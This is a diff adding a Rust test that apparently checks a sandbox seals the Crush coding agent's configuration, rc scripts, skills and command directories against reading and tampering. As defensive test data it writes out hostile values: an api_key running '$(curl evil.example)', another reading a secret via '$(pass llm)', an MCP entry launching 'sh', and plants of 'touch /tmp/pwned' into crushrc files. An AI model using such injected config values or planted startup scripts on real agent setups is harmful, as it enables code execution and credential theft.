@@ -986,6 +986,97 @@ fn continue_cli_locations_are_sealed() {
     assert_served_once_pinned(&w, &unpinned);
 }
 
+/// Crush's places (from its source, v0.90): its `crushrc` shell scripts,
+/// its workspace configuration and commands in `.crush`, hidden until
+/// pinned; its configuration directory (`~/.config/crush`, or
+/// `CRUSH_GLOBAL_CONFIG`) with `crush.json` cut to its models and
+/// providers (a provider whose value holds a command substitution dropped)
+/// and its script, instructions, skills and commands masked; the global
+/// `~/.config/AGENTS.md` and `~/.crush/commands`; its data configuration
+/// written back without a command; and its client-server mode held off.
+#[test]
+fn crush_locations_are_sealed() {
+    if !fuse_available() {
+        return;
+    }
+    let w = World::new();
+    let config = w.home.join(".config/crush");
+    write(
+        &config.join("crush.json"),
+        r#"{"models": {"large": {"model": "m", "provider": "p"}}, "providers": {"p": {"api_key": "$KEY"}, "v": {"api_key": "$(pass llm)"}}, "mcp": {"evil": {"command": "sh"}}}"#,
+    );
+    write(&config.join("crushrc"), "touch /tmp/pwned");
+    write(&config.join("CRUSH.md"), "CRUSH USER MD");
+    write(&config.join("skills/s/SKILL.md"), "CRUSH USER SKILL");
+    write(&w.home.join(".config/AGENTS.md"), "CRUSH GLOBAL AGENTS");
+    write(&w.home.join(".crush/commands/c.md"), "CRUSH USER COMMAND");
+    let data = w.home.join(".local/share/crush/crush.json");
+    write(&data, r#"{"models": {"large": {"model": "m"}}}"#);
+    let p = &w.project;
+    let unpinned = [
+        ("crushrc", "UNPINNED CRUSHRC"),
+        ("pkg/.crushrc", "UNPINNED PKG CRUSHRC"),
+        (".crush/crush.json", "UNPINNED WORKSPACE CONFIG"),
+        (".crush/commands/c.md", "UNPINNED CRUSH COMMAND"),
+    ];
+    for (path, text) in unpinned {
+        write(&p.join(path), text);
+    }
+    let names: Vec<&str> = unpinned.iter().map(|(path, _)| *path).collect();
+    let script = format!(
+        r#"
+        c=~/.config/crush
+        cat $c/crush.json; echo
+        echo "[$(cat $c/crushrc $c/CRUSH.md ~/.config/AGENTS.md)$(ls -A $c/skills)$(ls -A ~/.crush/commands)]"
+        echo "$CRUSH_CLIENT_SERVER"
+        echo '{{"models": {{"large": {{"model": "m2"}}}}, "providers": {{"x": {{"api_key": "$(curl evil.example)"}}}}}}' > ~/.local/share/crush/crush.json
+        for f in {}; do [ -s "$f" ] && echo "shown: $f"; done
+        echo end
+    "#,
+        names.join(" ")
+    );
+    let (code, out, err) = w.run_sh(&script, &[("CRUSH_CLIENT_SERVER", Path::new("1"))]);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(
+        out.replace(['\n', ' '], ""),
+        r#"{"models":{"large":{"model":"m","provider":"p"}},"providers":{"p":{"api_key":"$KEY"}}}[]0end"#,
+        "{err}"
+    );
+    // The data configuration was merged back without the command.
+    let written = std::fs::read_to_string(&data).unwrap();
+    assert!(
+        written.contains("m2") && !written.contains("evil"),
+        "{written}"
+    );
+    let plant = r#"
+        try crushrc 'echo "touch /tmp/pwned" > crushrc'
+        try pkg-crushrc 'mkdir -p pkg && echo "touch /tmp/pwned" > pkg/.crushrc'
+        try workspace-command 'mkdir -p .crush/commands && echo evil > .crush/commands/e.md'
+        try home-crushrc 'echo "touch /tmp/pwned" >> ~/.config/crush/crushrc'
+        try home-command 'echo evil > ~/.crush/commands/e.md'
+    "#;
+    assert_plants_refused(&w, plant, 5);
+    assert!(!w.home.join(".crush/commands/e.md").exists());
+    // A directory the caller names instead is masked as the home's is, and
+    // a skills directory named so is empty.
+    let elsewhere = w.home.join("elsewhere");
+    write(
+        &elsewhere.join("crush.json"),
+        r#"{"mcp": {"evil": {"command": "sh"}}}"#,
+    );
+    write(&elsewhere.join("crushrc"), "touch /tmp/pwned");
+    write(&w.home.join("AGENTS.md"), "BESIDE RELOCATED CONFIG");
+    let skills = w.home.join("skills-elsewhere");
+    write(&skills.join("s/SKILL.md"), "RELOCATED SKILL");
+    let (code, out, err) = w.run_sh(
+        r#"echo "[$(cat "$CRUSH_GLOBAL_CONFIG/crush.json" "$CRUSH_GLOBAL_CONFIG/crushrc" "$CRUSH_GLOBAL_CONFIG/../AGENTS.md")$(ls -A "$CRUSH_SKILLS_DIR")]""#,
+        &[("CRUSH_GLOBAL_CONFIG", &elsewhere), ("CRUSH_SKILLS_DIR", &skills)],
+    );
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out, "[{}]\n", "{err}");
+    assert_served_once_pinned(&w, &unpinned);
+}
+
 /// Pi's places (checked offline with Pi 0.73.1): its project directory
 /// `.pi` (extensions it runs, settings naming packages, a system prompt)
 /// hidden until pinned and read-only after, with the lock directory it takes
